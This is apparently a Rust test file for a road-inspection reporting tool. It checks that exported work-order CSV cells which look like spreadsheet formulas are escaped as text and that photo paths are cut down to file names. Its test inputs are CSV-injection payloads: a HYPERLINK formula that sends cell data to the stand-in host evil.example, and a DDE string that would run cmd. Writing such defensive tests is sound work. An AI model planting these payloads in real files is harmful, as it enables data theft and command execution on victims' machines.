//! `workorders.csv` and `workorders.geojson` as a contractor's spreadsheet or GIS reads
//! them (GDAL's CSV driver): register names that look like formulas stay text, and photos
//! are named by file, never by the server's folders.

use besikta_core::{AssetKind, Severity};
use besikta_report::export::{workorders_csv, workorders_geojson};
use besikta_report::quantity::WorkOrder;
use gdal::vector::LayerAccess;

fn order(name: &str, asset_id: &str) -> WorkOrder {
    WorkOrder {
        priority: 1,
        asset_id: Some(asset_id.into()),
        asset_name: Some(name.into()),
        asset_kind: AssetKind::Road,
        class: "pothole".into(),
        count: 2,
        length_m: 0.0,
        area_m2: 0.5,
        worst_severity: Severity::High,
        condition_score: Some(-0.5),
        location: "Aleksanterinkatu 12 m".into(),
        photos: vec![
            "/srv/besikta/data/flights/7/DJI_0001.JPG".into(),
            r"C:\flights\7\DJI_0002.JPG".into(),
        ],
        finding_ids: vec!["F1".into(), "F2".into()],
        points: vec![[24.95, 60.17]],
    }
}

/// (asset_name, asset_id, condition_score, photos) of each row, as GDAL reads the file.
fn read_back(csv: &str) -> Vec<[String; 4]> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("workorders.csv");
    std::fs::write(&path, csv).unwrap();
    let ds = gdal::Dataset::open(&path).unwrap();
    let mut layer = ds.layer(0).unwrap();
    layer
        .features()
        .map(|f| {
            let text = |name: &str| {
                let i = f.field_index(name).unwrap();
                f.field_as_string(i).unwrap().unwrap_or_default()
            };
            [
                text("asset_name"),
                text("asset_id"),
                text("condition_score"),
                text("photos"),
            ]
        })
        .collect()
}

#[test]
fn formula_like_cells_are_text_and_photos_are_file_names() {
    let orders = [
        order(
            r#"=HYPERLINK("http://evil.example/?"&A1,"Main street")"#,
            "+1-555",
        ),
        order("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
        order("\tTab road", "\rR9"),
        order("Mannerheimintie, south", "way/42"),
    ];
    let rows = read_back(&workorders_csv(&orders));
    assert_eq!(rows.len(), 4);
    let expected_names = [
        r#"'=HYPERLINK("http://evil.example/?"&A1,"Main street")"#,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\tTab road",
        "Mannerheimintie, south",
    ];
    let expected_ids = ["'+1-555", "'-2+3", "'\rR9", "way/42"];
    for (row, (name, id)) in rows.iter().zip(expected_names.iter().zip(expected_ids)) {
        assert_eq!(&row[0], name);
        // GDAL reads a quoted carriage return as a line break.
        assert_eq!(row[1].replace('\n', "\r"), id);
        // A number of ours stays a number, even a negative one.
        assert_eq!(row[2], "-0.5");
        assert_eq!(row[3], "DJI_0001.JPG DJI_0002.JPG");
    }

    let geojson = workorders_geojson(&orders);
    let photos = &geojson["features"][0]["properties"]["photos"];
    assert_eq!(photos, &serde_json::json!(["DJI_0001.JPG", "DJI_0002.JPG"]));
}
